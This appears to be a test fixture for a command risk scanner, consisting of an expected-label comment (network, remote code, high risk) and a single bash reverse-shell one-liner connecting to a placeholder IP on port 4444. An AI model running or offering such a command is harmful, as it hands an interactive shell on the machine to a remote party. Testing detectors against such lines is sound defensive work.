# expect: network@2 remote_code@2 risk=high
bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
